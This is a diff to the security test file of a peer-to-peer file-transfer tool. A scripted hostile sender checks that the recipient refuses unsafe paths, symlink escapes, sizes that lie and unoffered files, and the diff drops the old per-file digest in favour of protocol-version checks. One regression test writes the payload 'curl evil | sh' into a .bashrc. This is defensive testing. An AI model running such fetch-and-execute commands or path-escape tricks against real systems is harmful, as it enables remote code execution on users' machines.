@@ -11,7 +11,6 @@ import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { generateSecret, formatCode } from '../src/core/code-phrase.js';
 import { TscCrocError } from '../src/core/errors.js';
-import { ChunkHasher } from '../src/core/chunk-digest.js';
 import { PROTOCOL_VERSION, type SenderMessage } from '../src/core/messages.js';
 import { RecordType } from '../src/core/record.js';
 import type { RunningRelay } from '../src/relay/index.js';
@@ -51,7 +50,7 @@ async function hostile(script: Step[], outDir: string, overwrite = false, more: 
   );
   const { keys } = await senderPake([{ client, join, via: 'relay' }], secret, timeouts, () => {});
   const s = await connectStapled({ host: client.host, port: join.tcpPort, channel: join.channel, uuid: join.uuid, timeoutMs: 10_000 });
-  const ch = new SecureChannel(s.socket, s.leftover, keys.senderToRecipient, keys.recipientToSender);
+  const ch = new SecureChannel(s.socket, s.leftover, keys.senderToRecipient, keys.recipientToSender, undefined, s.tap);
   s.socket.resume(); // read and drop what the recipient says, like any TCP peer (so its FIN closes us)
   const sending = (async () => {
     for (const step of script) {
@@ -72,12 +71,6 @@ const offer = (names: string[], totalBytes: number): Step => ({
 });
 const file = (path: string, size: number): Step => ({ msg: { type: 'file', path, size, offset: 0, mode: 0o644, mtime: Date.now() } });
 const sha = (b: Buffer) => createHash('sha256').update(b).digest('hex');
-/** The file digest (src/core/chunk-digest.ts) of `b`. */
-const fdig = (b: Buffer) => {
-  const h = new ChunkHasher();
-  h.update(b);
-  return h.digest();
-};
 
 async function fresh(name: string) {
   const d = join(root, name);
@@ -97,7 +90,7 @@ for (const name of unsafeNames) {
   test(`refuses the file name ${JSON.stringify(name)}`, async () => {
     const { out, elsewhere } = await fresh(`name-${randomBytes(4).toString('hex')}`);
     const data = Buffer.from('payload');
-    const e = await hostile([offer([name], data.length), file(name, data.length), { data }, { msg: { type: 'file-end', digest: fdig(data) } }, { msg: { type: 'done' } }, { end: true }], out);
+    const e = await hostile([offer([name], data.length), file(name, data.length), { data }, { msg: { type: 'file-end' } }, { msg: { type: 'done' } }, { end: true }], out);
     assertCode(e, 'ERR_UNSAFE_PATH');
     assert.deepEqual(await readdir(out), []);
     assert.deepEqual(await readdir(elsewhere), []);
@@ -113,7 +106,7 @@ test('refuses a path into a symlink planted in the output folder (at the offer, 
     { msg: { type: 'dir', path: 'link', mode: 0o755, mtime: Date.now() } },
     file('link/x', data.length),
     { data },
-    { msg: { type: 'file-end', digest: fdig(data) } },
+    { msg: { type: 'file-end' } },
     { msg: { type: 'done' } },
     { end: true },
   ];
@@ -132,7 +125,7 @@ test('a size that lies (more data than announced) is refused before it is writte
 test('a size that lies (less data than announced) is refused at the file end', async () => {
   const { out } = await fresh('size-less');
   const data = Buffer.from('12');
-  const e = await hostile([offer(['a.txt'], 4), file('a.txt', 4), { data }, { msg: { type: 'file-end', digest: fdig(data) } }], out);
+  const e = await hostile([offer(['a.txt'], 4), file('a.txt', 4), { data }, { msg: { type: 'file-end' } }], out);
   assertCode(e, 'ERR_PROTOCOL');
   assert.ok(!(await readdir(out)).includes('a.txt'));
 });
@@ -140,28 +133,29 @@ test('a size that lies (less data than announced) is refused at the file end', a
 test('more files or bytes than offered are refused', async () => {
   const { out } = await fresh('counts');
   const d = Buffer.from('ab');
-  const e1 = await hostile([offer(['a'], 4), file('a', 2), { data: d }, { msg: { type: 'file-end', digest: fdig(d) } }, file('b', 2)], out);
+  const e1 = await hostile([offer(['a'], 4), file('a', 2), { data: d }, { msg: { type: 'file-end' } }, file('b', 2)], out);
   assertCode(e1, 'ERR_PROTOCOL');
   const { out: out2 } = await fresh('bytes');
   const e2 = await hostile([offer(['a', 'b'], 3), file('a', 4)], out2);
   assertCode(e2, 'ERR_PROTOCOL');
   const { out: out3 } = await fresh('fewer');
-  const e3 = await hostile([offer(['a', 'b'], 2), file('a', 2), { data: d }, { msg: { type: 'file-end', digest: fdig(d) } }, { msg: { type: 'done' } }], out3);
+  const e3 = await hostile([offer(['a', 'b'], 2), file('a', 2), { data: d }, { msg: { type: 'file-end' } }, { msg: { type: 'done' } }], out3);
   assertCode(e3, 'ERR_PROTOCOL');
 });
 
-test('a wrong checksum leaves nothing under the final name', async () => {
+test('a file-end of protocol v1 (with a digest) is refused, and leaves nothing under the final name', async () => {
   const { out } = await fresh('checksum');
   const data = Buffer.from('real data');
-  const e = await hostile([offer(['a.txt'], data.length), file('a.txt', data.length), { data }, { msg: { type: 'file-end', digest: fdig(Buffer.from('other')) } }], out);
-  assertCode(e, 'ERR_INTEGRITY');
+  const v1End = { type: 'file-end', digest: 'a'.repeat(64) } as unknown as SenderMessage;
+  const e = await hostile([offer(['a.txt'], data.length), file('a.txt', data.length), { data }, { msg: v1End }], out);
+  assertCode(e, 'ERR_PROTOCOL');
   assert.deepEqual(await readdir(out), []);
 });
 
 test('the same name twice is refused', async () => {
   const { out } = await fresh('dupe');
   const d = Buffer.from('ab');
-  const e = await hostile([offer(['a', 'b'], 4), file('a', 2), { data: d }, { msg: { type: 'file-end', digest: fdig(d) } }, file('a', 2)], out);
+  const e = await hostile([offer(['a', 'b'], 4), file('a', 2), { data: d }, { msg: { type: 'file-end' } }, file('a', 2)], out);
   assertCode(e, 'ERR_PROTOCOL');
 });
 
@@ -178,7 +172,7 @@ test('a sender that stops mid-file: connection lost, partial data only under a t
 test('regression: a file that was not offered is refused (an offer of "photo.jpg" cannot write .bashrc)', async () => {
   const { out } = await fresh('not-offered');
   const evil = Buffer.from('curl evil | sh');
-  const e = await hostile([offer(['photo.jpg'], evil.length), file('.bashrc', evil.length), { data: evil }, { msg: { type: 'file-end', digest: fdig(evil) } }], out);
+  const e = await hostile([offer(['photo.jpg'], evil.length), file('.bashrc', evil.length), { data: evil }, { msg: { type: 'file-end' } }], out);
   assertCode(e, 'ERR_PROTOCOL');
   assert.deepEqual(await readdir(out), []);
 });
@@ -268,7 +262,7 @@ for (const name of ['.tsc-croc-0123456789abcdef.journal', '.TSC-CROC-0123456789A
 test(`names reserved for partial transfers are refused, in any case: ${JSON.stringify(name)}`, async () => {
   const { out } = await fresh(`reserved-${Buffer.from(name).toString('hex').slice(0, 20)}`);
   const d = Buffer.from('{"done":"x"}');
-  const e = await hostile([offer([name], d.length), file(name, d.length), { data: d }, { msg: { type: 'file-end', digest: fdig(d) } }, { msg: { type: 'done' } }, { end: true }], out);
+  const e = await hostile([offer([name], d.length), file(name, d.length), { data: d }, { msg: { type: 'file-end' } }, { msg: { type: 'done' } }, { end: true }], out);
   assert.ok(e instanceof TscCrocError);
   assert.equal(e.code, 'ERR_UNSAFE_PATH');
   assert.deepEqual(await readdir(out), []);
